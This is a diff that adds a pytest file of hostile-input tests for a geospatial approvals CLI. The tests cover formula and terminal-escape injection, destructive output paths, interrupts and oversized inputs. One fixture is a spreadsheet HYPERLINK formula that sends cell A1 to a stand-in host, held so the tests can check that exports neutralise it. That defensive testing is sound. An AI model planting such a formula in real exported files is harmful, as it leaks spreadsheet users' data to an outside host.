@@ -1,0 +1,172 @@
+"""Hostile input, round 2 (issue 10): injections, terminal escapes, outputs that destroy, tracebacks, bounded work."""
+
+from __future__ import annotations
+
+import csv
+import subprocess
+import sys
+import time
+import xml.etree.ElementTree as ET
+
+import openpyxl
+import pytest
+from conftest import DATA, ROOT, WELL_HEADER, ZONE_HEADER, csv_text, well, write_approval, zone
+
+from geo import InputError, read_approvals
+from geo.cli import EXIT_INTERRUPTED, main
+
+FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'
+
+
+def run(*args, env=None, **kw):
+    return subprocess.run([sys.executable, "-m", "geo", *args], capture_output=True, text=True, cwd=ROOT, env=env, **kw)
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """An approval whose names carry a formula and a terminal escape."""
+    return write_approval(tmp_path / "h", [well(name=FORMULA, no="\x1b[31m1#")], [zone()])
+
+
+def test_no_formula_reaches_a_spreadsheet(tmp_path, hostile):
+    out = tmp_path / "r.csv"
+    assert run("export", str(hostile), "-o", str(out)).returncode == 0
+    with out.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert rows[0]["source_name"] == "'" + FORMULA
+    xlsx = tmp_path / "r.xlsx"
+    assert run("export", str(hostile), "-o", str(xlsx)).returncode == 0
+    book = openpyxl.load_workbook(xlsx)
+    cells = [c for row in book["zones"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
+    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
+    wells = [c.value for row in book["wells"].iter_rows() for c in row if isinstance(c.value, str) and "1#" in c.value]
+    assert wells == ["\\x1b[31m1#"]  # the escape shown, not a control character that breaks the workbook
+
+
+def test_control_characters_leave_kml_well_formed(tmp_path, hostile):
+    out = tmp_path / "r.kml"
+    assert run("export", str(hostile), "-o", str(out)).returncode == 0
+    root = ET.parse(out).getroot()  # raises on an ill-formed file
+    assert "\x1b" not in out.read_text(encoding="utf-8") and "\\x1b[31m1#" in out.read_text(encoding="utf-8")
+    assert root.tag.endswith("kml")
+
+
+def test_check_shows_terminal_escapes_escaped(hostile):
+    done = run("check", str(hostile))
+    assert done.returncode == 0 and "\x1b" not in done.stdout + done.stderr
+
+
+@pytest.mark.parametrize("near", ["nan", "-100", "inf", "1e9", "ten"])
+def test_near_must_be_a_distance(tmp_path, near):
+    done = run("conflicts", str(DATA), "--projects", str(DATA / "projects"), "--near", near)
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    assert f"expected a distance in metres from 0 to 100000, got '{near}'" in done.stderr
+
+
+def test_outputs_that_would_destroy_what_was_not_named(tmp_path):
+    folder = write_approval(tmp_path / "a", [well()], [zone()])
+    wells_csv = folder / "wells.csv"
+    before = wells_csv.read_bytes()
+    cases = {
+        str(wells_csv): f"-o {wells_csv}: expected a new output file, but {wells_csv} is one of the input tables",
+        str(tmp_path): f"-o {tmp_path}: expected a file to write, found a folder",
+        "/dev/null": "-o /dev/null: expected a file to write, found a device or other special file",
+        "": "-o: expected a file or folder name, got ''",
+    }
+    for target, message in cases.items():
+        done = run("zones", str(folder), "-o", target)
+        assert done.returncode == 2, target
+        assert done.stderr.strip() == f"error: {message}"
+    assert wells_csv.read_bytes() == before
+
+
+def test_export_never_replaces_a_conflicts_file_it_did_not_write(tmp_path):
+    mine = tmp_path / "r-conflicts.csv"
+    mine.write_text("我的表格\n", encoding="utf-8")
+    done = run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv"))
+    assert done.returncode == 2
+    assert "exists and was not written by an export" in done.stderr
+    assert mine.read_text(encoding="utf-8") == "我的表格\n" and not (tmp_path / "r.csv").exists()
+    mine.unlink()
+    assert run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv")).returncode == 0
+    # A second export may replace what the first wrote.
+    assert run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv")).returncode == 0
+
+
+def test_ctrl_c_exits_130_without_a_traceback(monkeypatch, capsys):
+    import geo.cli
+
+    def interrupted(args):
+        raise KeyboardInterrupt
+
+    monkeypatch.setitem(geo.cli._COMMANDS, "check", interrupted)
+    assert main(["check", str(DATA)]) == EXIT_INTERRUPTED
+    assert capsys.readouterr().err.strip() == "中断：未写入任何文件。"
+
+
+def test_a_broken_pipe_ends_quietly():
+    done = subprocess.run(
+        f"{sys.executable} -m geo check --json {DATA} | head -c 20",
+        shell=True,
+        capture_output=True,
+        cwd=ROOT,
+    )
+    assert b"Traceback" not in done.stderr and b"BrokenPipe" not in done.stderr and len(done.stdout) == 20
+
+
+def test_a_console_that_is_not_utf8(tmp_path):
+    import os
+
+    for encoding in ("gbk", "ascii"):
+        done = subprocess.run(
+            [sys.executable, "-m", "geo", "check", str(DATA)],
+            capture_output=True,
+            cwd=ROOT,
+            env={**os.environ, "PYTHONIOENCODING": encoding},
+        )
+        assert done.returncode == 0 and b"Traceback" not in done.stderr, encoding
+        text = done.stdout.decode(encoding)
+        assert "26 " in text.splitlines()[-1]  # the summary line made it out
+    assert "\\u" in text or "\\x" in text  # what ASCII cannot show is escaped
+
+
+def test_a_rule_cell_of_60000_items_is_refused_at_once(tmp_path):
+    folder = write_approval(tmp_path / "r", [well()], [zone(rule="1、" * 60_000)])
+    start = time.perf_counter()
+    with pytest.raises(InputError) as info:
+        read_approvals(folder)
+    assert time.perf_counter() - start < 10  # bounded, not quadratic: refused by length
+    [problem] = [str(p) for p in info.value.problems]
+    assert "expected a cell of at most 10000 characters, found 120000" in problem
+
+
+def test_a_workbook_whose_one_cell_is_at_xfd1048576(tmp_path):
+    folder = tmp_path / "x"
+    folder.mkdir()
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(WELL_HEADER)
+    sheet.append(well())
+    sheet["XFD1048576"] = "x"
+    book.save(folder / "wells.xlsx")
+    (folder / "zones.csv").write_text(csv_text(ZONE_HEADER, [zone()]), encoding="utf-8")
+    with pytest.raises(InputError) as info:
+        read_approvals(folder)
+    assert [str(p) for p in info.value.problems] == [
+        f"{folder / 'wells.xlsx'}: expected a sheet of at most 2000000 rows and 200 columns, but sheet 'Sheet' reaches row 1048576, column 16384"
+    ]
+
+
+def test_twenty_thousand_wells_in_one_source_are_checked_without_an_n_by_n_matrix(tmp_path):
+    rows = [
+        well(no=f"{i}#", lon=f"{111.5 + (i % 200) * 1e-4:.6f}", lat=f"{38.3 + (i // 200) * 1e-4:.6f}", supply="")
+        for i in range(20_000)
+    ]
+    rows.append(well(no="20000#", lon="112.4", lat="38.3", supply=""))  # 80 km away: a typing error
+    folder = write_approval(tmp_path / "big", rows, [zone(area="", perimeter="")])
+    start = time.perf_counter()
+    with pytest.raises(InputError) as info:
+        read_approvals(folder)
+    assert time.perf_counter() - start < 60
+    [problem] = [str(p) for p in info.value.problems]
+    assert "expected a well within 10 km of another well of source T001" in problem and "row 20002" in problem
